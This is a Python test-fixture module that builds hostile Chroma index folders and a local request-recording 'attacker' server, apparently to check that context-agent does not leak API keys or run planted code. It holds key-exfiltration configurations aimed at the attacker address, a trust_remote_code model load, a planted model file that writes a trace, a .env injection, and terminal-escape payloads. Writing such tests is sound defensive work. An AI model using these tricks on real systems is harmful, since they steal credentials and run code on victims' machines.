"""Hostile index folders, and a server that records requests.

The folders name addresses, variables that hold keys, models and code.
"""

import json
import shutil
import sqlite3
import threading
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import chromadb

from context_agent.retrieval.chroma.indexing import index_documents
from context_agent.retrieval.index.manifest import MANIFEST_KEY
from context_agent.types import Document

SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "fake-aws-secret-4711",
    "OPENAI_API_KEY": "fake-openai-secret-4712",
    "ANTHROPIC_API_KEY": "fake-anthropic-secret-4712",
    "HF_TOKEN": "fake-hf-secret-4713",
    "CHROMA_API_KEY": "fake-chroma-secret-4714",
    "CONTEXT_AGENT_EMBEDDINGS_API_KEY": "fake-embeddings-secret-4715",
}
"""Environment variables that a stored embedding function could name. A leaked value is recognizable."""
VARIABLE = "AWS_SECRET_ACCESS_KEY"
TRACE = "code-ran"
"""The name of the file that code in a hostile folder writes next to the folder if it runs."""
TEXTS = ("The harbour pilot kept a ledger of tides.", "A glazier from Ghent sold lenses.", "Rope was filmed in 1948.")
DOCUMENTS = [Document(f"d{number}", text) for number, text in enumerate(TEXTS)]


class AttackerServer:
    """An HTTP server in a thread that records and refuses every request.

    Attributes:
        requests: The recorded requests, as text.
        address: The server's address, such as `http://127.0.0.1:9000`.
    """

    def __init__(self) -> None:
        self.requests: list[str] = []
        requests = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                requests.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
                self.send_error(403)

            do_GET = do_CONNECT = do_POST  # noqa: N815 - the library's names

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop the server."""
        self._server.shutdown()
        self._server.server_close()


@dataclass(frozen=True)
class HostileIndex:
    """The changes that make a harmless index folder hostile.

    Attributes:
        name: The name of the attack.
        configuration: The embedding function in Chroma's column `config_json_str`.
        dense: The embedding function of the schema's vectors.
        defaults: The embedding function of the schema's defaults.
        sparse: The embedding function of a sparse index.
        manifest: Fields that replace those of context-agent's manifest, or a text that replaces all of it.
        files: Extra files, by path.
    """

    name: str
    configuration: Mapping[str, Any] | None = None
    dense: Mapping[str, Any] | None = None
    defaults: Mapping[str, Any] | None = None
    sparse: Mapping[str, Any] | None = None
    manifest: Mapping[str, Any] | str | None = None
    files: Mapping[str, str] = field(default_factory=dict)


def function(name: str, **config: Any) -> dict[str, Any]:
    """Return a stored embedding function in Chroma's own format."""
    return {"type": "known", "name": name, "config": config}


def hostile_indexes(address: str) -> Iterator[HostileIndex]:
    """Yield about forty hostile indexes.

    Args:
        address: The attacker's address, such as `http://127.0.0.1:9000`.
    """
    for stored in _functions(address):
        yield HostileIndex(stored["name"], dense=stored, defaults=stored)
    openai = function("openai", model_name="m", api_key_env_var=VARIABLE, api_base=f"{address}/v1")
    server = function("huggingface_server", url=address, api_key_env_var=VARIABLE)
    yield HostileIndex("openai-in-configuration", configuration=openai)
    yield HostileIndex("server-in-configuration", configuration=server)
    yield HostileIndex("openai-in-defaults", defaults=openai)
    yield HostileIndex("unknown-type", dense={**openai, "type": "unknown"})
    yield HostileIndex("control-characters", dense=function("\x1b]0;owned\x07\u202eevil", url=address))
    yield HostileIndex("sparse-splade", sparse=function("chroma-cloud-splade", api_key_env_var=VARIABLE, model="m"))
    yield HostileIndex(
        "sparse-huggingface", sparse=function("huggingface_sparse", model_name="m", kwargs={"trust_remote_code": True})
    )
    yield HostileIndex(
        "dotenv", files={".env": f"CHROMA_API_IMPL=trap.Trap\nCHROMA_OTEL_COLLECTION_ENDPOINT={address}\n"}
    )
    yield HostileIndex(
        "manifest-openai", manifest=_manifest(f"openai:m@{urlsplit(address).hostname}", f"openai:m@{address}/v1")
    )
    with_password = address.replace("//", "//user:word@")
    yield HostileIndex(
        "manifest-password",
        manifest=_manifest(f"openai:m@{urlsplit(address).hostname}", f"openai:m@{with_password}/v1"),
    )
    yield HostileIndex("manifest-static-folder", manifest=_manifest("static-mine@1a2b3c4d", "static:{folder}/weights"))
    yield HostileIndex(
        "manifest-model-folder",
        manifest=_manifest("sentence-transformers:model", "sentence-transformers:{folder}/model"),
        files={
            "model/modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "modeling_trap.Trap"}]),
            "model/config.json": "{}",
            "model/modeling_trap.py": f"open('../{TRACE}', 'w').close()\n",
        },
    )
    yield HostileIndex("manifest-chroma-default", manifest=_manifest("chroma-default", "chroma-default"))
    yield HostileIndex("manifest-unknown", manifest=_manifest("\x1b[2J\u202eno such embedder" + "x" * 3_000))
    yield HostileIndex("manifest-nan", manifest={"weights": {"dense": float("nan")}})
    yield HostileIndex("manifest-dimension", manifest={"dimension": 10**9})
    yield HostileIndex("manifest-nested", manifest="[" * 100_000 + "]" * 100_000)
    yield HostileIndex("manifest-types", manifest={"embedder": {"a": 1}, "chunking": [], "revision": "x"})


def build(index: HostileIndex, folder: Path, templates: Path) -> None:
    """Make the folder of a hostile index from a real Chroma folder of three texts.

    Args:
        index: The changes to the folder's database and files.
        folder: The folder to make.
        templates: A folder for the two harmless folders that are copied. They are made if they are missing.
    """
    template = templates / ("foreign" if index.manifest is None else "own")
    if not template.is_dir():
        _foreign(template) if index.manifest is None else index_documents(DOCUMENTS, template)
    shutil.copytree(template, folder)
    for name, text in index.files.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    with closing(sqlite3.connect(folder / "chroma.sqlite3")) as database, database:
        _store(database, index, folder)


def _functions(address: str) -> list[dict[str, Any]]:
    """Return one embedding function of each kind that Chroma knows."""
    key = {"api_key_env_var": VARIABLE}
    return [
        function("openai", model_name="m", api_base=f"{address}/v1", **key),
        function("huggingface_server", url=address, **key),
        function("huggingface", model_name="m", **key),
        function("cohere", model_name="m", **key),
        function("jina", model_name="m", **key),
        function("ollama", model_name="m", url=address, timeout=1),
        function("google_generative_ai", model_name="m", task_type="t", **key),
        function("google_vertex", model_name="m", project_id="p", region="r", **key),
        function("mistral", model="m", **key),
        function("voyageai", model_name="m", **key),
        function("amazon_bedrock", model_name="m", session_args={"region_name": "r"}, kwargs={"endpoint_url": address}),
        function("cloudflare_workers_ai", model_name="m", account_id="a", gateway_id="g", **key),
        function("together_ai", model_name="m", **key),
        function("roboflow", api_url=address, **key),
        function("text2vec", model_name="m"),
        function("instructor", model_name="m", device="cpu", instruction="i"),
        function(
            "sentence_transformer",
            model_name="attacker/model",
            device="cpu",
            normalize_embeddings=False,
            kwargs={"trust_remote_code": True},
        ),
        function("default"),
        function("onnx_mini_lm_l6_v2", preferred_providers=["CPUExecutionProvider"]),
        function("chroma-cloud-qwen", model="m", task="t", instructions={}, **key),
        function("chroma_langchain", embedding_function={"lc": 1}),
        function("baseten", api_base=address, **key),
        function("perplexity", model_name="m", **key),
    ]


def _manifest(embedder: str, spec: str = "") -> dict[str, Any]:
    """Return manifest fields that name an embedder, and the specification that loads it."""
    return {"embedder": embedder, "spec": spec}


def _foreign(folder: Path) -> None:
    client = chromadb.PersistentClient(str(folder))
    collection = client.create_collection("documents", embedding_function=None)
    vectors: Any = [[1.0] + [float(n)] * 383 for n in range(len(TEXTS))]
    collection.add(ids=[f"d{n}" for n in range(len(TEXTS))], documents=list(TEXTS), embeddings=vectors)
    client.close()  # type: ignore[attr-defined]


def _store(database: sqlite3.Connection, index: HostileIndex, folder: Path) -> None:
    ((name, text),) = database.execute("SELECT name, schema_str FROM collections")
    schema = json.loads(text)
    for key, stored in (("dense", index.dense), ("defaults", index.defaults)):
        types = schema["keys"]["#embedding"] if key == "dense" else schema["defaults"]
        if stored is not None:
            types["float_list"]["vector_index"]["config"]["embedding_function"] = stored
    if index.sparse is not None:
        config = {"source_key": "#document", "embedding_function": index.sparse, "bm25": False}
        schema["keys"]["sparse"] = {"sparse_vector": {"sparse_vector_index": {"enabled": True, "config": config}}}
    database.execute("UPDATE collections SET schema_str = ? WHERE name = ?", (json.dumps(schema), name))
    if index.configuration is not None:
        stored_configuration = json.dumps({"hnsw": {"space": "l2"}, "embedding_function": index.configuration})
        database.execute("UPDATE collections SET config_json_str = ?, schema_str = NULL", (stored_configuration,))
    if index.manifest is not None:
        ((entry,),) = database.execute("SELECT str_value FROM collection_metadata WHERE key = ?", (MANIFEST_KEY,))
        manifest = index.manifest
        if not isinstance(manifest, str):
            manifest = json.dumps({**json.loads(entry), **manifest}).replace("{folder}", str(folder))
        database.execute("UPDATE collection_metadata SET str_value = ? WHERE key = ?", (manifest, MANIFEST_KEY))
